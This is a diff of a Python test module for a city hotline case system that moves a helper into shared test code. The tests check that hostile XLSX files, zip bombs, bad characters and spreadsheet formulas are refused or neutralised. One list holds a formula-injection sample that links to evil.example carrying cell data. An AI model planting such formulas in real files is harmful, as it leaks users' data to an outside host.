@@ -35,6 +35,7 @@ from gridmap.errors import InvalidInput
 from gridmap.tables import Case
 
 from tests.conftest import api_client  # requests through the trusted gateway, as an admin unless told otherwise
+from tests.helpers import inside
 
 ROOT = Path(__file__).parents[2]
 KEY = "limits-key-311"
@@ -44,16 +45,7 @@ DISPATCHER = {"X-User": "d1", "X-Role": "dispatcher"}
 MB = 1024 * 1024
 
 
-@pytest.fixture(scope="module")
-def client(db_url):
-    settings = Settings(database_url=db_url, open311_api_keys=KEY, escalation_interval_s=3600)
-    with api_client(settings) as c:
-        yield c
-
-
-def _inside(client, k=10):
-    p = client.app.state.registry.current.leaf_geoms[k].representative_point()
-    return p.x, p.y
+APP_SETTINGS = {"open311_api_keys": KEY, "escalation_interval_s": 3600}  # the module's `client` (tests/conftest.py)
 
 
 # ------------------------------------------------------------------------------------------- hostile XLSX
@@ -197,7 +189,7 @@ def test_a_long_cell_that_is_no_zip_bomb_makes_its_row_invalid_and_the_others_ar
     """8 MB of text that does not compress (so no archive limit stops it) in one cell: the cell is never held
     as text, its row is invalid with the field, the rows around it are imported."""
     prefix = uuid.uuid4().hex[:8]
-    x, y = _inside(client)
+    x, y = inside(client, 10)
     row = lambda t, desc: [f"{prefix}-{t}", "2026-11-18 10:00:00", "", "", "", desc, "E0101", f"{x:.7f}", f"{y:.7f}"]
     data = _excel_like([HEAD, row("before", "噪声扰民"), row("long", "LONG"), row("after", "路灯不亮")], "LONG",
                        _random_letters(8))
@@ -234,7 +226,7 @@ def test_a_zip_bomb_and_unsafe_member_names_are_refused(client):
 
 def test_hotline_rows_with_bad_text_are_invalid_with_their_field(client):
     prefix = uuid.uuid4().hex[:8]
-    x, y = _inside(client)
+    x, y = inside(client, 10)
     bad = {"nul": ("来电人", "张\x00三", "reporter_name"), "rtl": ("诉求内容", "井盖\u202e丢失", "description"),
            "phone": ("联系电话", "١٣٨٠٠١٣٨٠٠٠", "reporter_phone"), "addr": ("事发地址", "东" * 301, "address")}
     buffer = io.StringIO()
@@ -259,7 +251,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+SUM(1,2)", "@SU
 
 
 def test_formula_text_comes_out_as_text_in_csv_and_xlsx_reports(client):
-    x, y = _inside(client)
+    x, y = inside(client, 10)
     tickets = [f"{t}{uuid.uuid4().hex[:6]}" for t in FORMULAS]
     buffer = io.StringIO()
     writer = csv.writer(buffer)
@@ -328,7 +320,7 @@ BAD_TEXT = [
 
 @pytest.mark.parametrize(("key", "value", "field"), BAD_TEXT)
 def test_bad_text_is_refused_on_the_native_api(client, key, value, field):
-    x, y = _inside(client)
+    x, y = inside(client, 10)
     body = {"title": "井盖缺失", "lon": x, "lat": y, "category": "E0101", key: value}
     with client.app.state.sessionmaker() as session:
         before = session.scalar(sa.select(sa.func.count(Case.id)))
@@ -352,7 +344,7 @@ OPEN311_BAD = [
 def test_bad_text_is_refused_on_open311_in_its_error_format(client, key, value, field):
     """Open311's errors are the spec's list of code and description with 400 for bad arguments (the module's
     convention); the description names the argument and never repeats the value."""
-    x, y = _inside(client)
+    x, y = inside(client, 10)
     form = {"api_key": KEY, "service_code": "E0101", "lat": y, "long": x, key: value}
     if key == "address_string":
         del form["lat"], form["long"]
@@ -365,7 +357,7 @@ def test_bad_text_is_refused_on_open311_in_its_error_format(client, key, value, 
 
 
 def test_the_title_stored_is_nfc_and_clean_text_passes(client):
-    x, y = _inside(client)
+    x, y = inside(client, 10)
     r = client.post("/api/v1/cases", json={"title": "Cafe\u0301 门口积水", "lon": x, "lat": y,
                                            "reporter_phone": "+86 138-0013-8000",
                                            "description": "第一行\r\n第二行"})
